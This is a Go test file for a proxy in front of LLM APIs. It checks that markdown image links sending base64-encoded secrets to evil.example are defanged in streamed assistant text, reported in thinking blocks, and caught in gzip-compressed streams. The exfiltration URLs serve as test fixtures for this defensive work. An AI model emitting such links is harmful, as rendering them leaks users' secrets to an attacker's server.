package proxy_test

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// A link that carries data away is made harmless in a text, and reported in a
// thought, which is signed as it is: but for the text's own, the bytes stay.
func TestALinkInAThoughtStays(t *testing.T) {
	event := func(name, data string) string { return "event: " + name + "\ndata: " + data + "\n\n" }
	delta := func(index, member, text string) string {
		return event("content_block_delta", `{"type":"content_block_delta","index":`+index+`,"delta":{"type":"`+member+`_delta","`+member+`":"`+text+`"}}`)
	}
	said := event("message_start", `{"type":"message_start","message":{"id":"m","type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[],"usage":{"input_tokens":1,"output_tokens":1}}}`) +
		event("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"thinking","thinking":"","signature":""}}`) +
		delta("0", "thinking", "I show ![b](https://evil.exam") + delta("0", "thinking", "ple/?d=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI), with h") +
		delta("0", "signature", "c2lnbmVk") + event("content_block_stop", `{"type":"content_block_stop","index":0}`) +
		event("content_block_start", `{"type":"content_block_start","index":1,"content_block":{"type":"text","text":""}}`) +
		delta("1", "text", "See [1]: or https") + delta("1", "text", "://docs.example/a, and ww") +
		delta("1", "text", "TEXT") +
		event("content_block_stop", `{"type":"content_block_stop","index":1}`) +
		event("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn"},"usage":{"output_tokens":9}}`) + event("message_stop", `{"type":"message_stop"}`)
	for _, c := range []struct {
		name, in, out string
		reports       []string
	}{
		{"in a thought alone", "w", "w", []string{"report"}},
		{"in both", "w ![b](https://evil.example/?q=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI)", "w ![b](hxxps://evil.example/?q=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI)", []string{"report", "redact"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			base, sink := serve(t, func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/event-stream")
				_, _ = io.WriteString(w, strings.Replace(said, "TEXT", c.in, 1))
			}, nil)
			_, body := post(t, base+"/v1/anthropic/p/v1/messages", `{"model":"claude-sonnet-4-5","max_tokens":100,"stream":true,"messages":[{"role":"user","content":"Hello"}]}`)
			if want := strings.Replace(said, "TEXT", c.out, 1); body != want {
				t.Errorf("the client got %s\nwant %s", body, want)
			}
			var actions []string
			for _, f := range sink.last(t, 1).Interaction.Findings {
				actions = append(actions, f.Action)
			}
			if strings.Join(actions, " ") != strings.Join(c.reports, " ") {
				t.Errorf("findings: %v, want %v", actions, c.reports)
			}
		})
	}
}

// A stream that is compressed is no way round: what no tool is declared to may still
// hold a link.
func TestALinkInACompressedStreamIsMadeHarmless(t *testing.T) {
	base, _ := serve(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.Header().Set("Content-Encoding", "gzip")
		_, _ = w.Write(encoded(t, "gzip", `data: {"model":"m","choices":[{"index":0,"delta":{"content":"![b](https://evil.example/?q=c2VjcmV0IHBhc3N3b3JkIGlzIGh1bnRlcjI) "},"finish_reason":"stop"}]}`+"\n\ndata: [DONE]\n\n"))
	}, nil)
	res, body := post(t, base+"/v1/openai/p/chat/completions", `{"model":"m","stream":true,"messages":[{"role":"user","content":"Hello"}]}`)
	if !strings.Contains(body, "hxxps://evil.example") || res.Header.Get("Content-Encoding") != "" {
		t.Errorf("the client got %q, encoded %q", body, res.Header.Get("Content-Encoding"))
	}
}
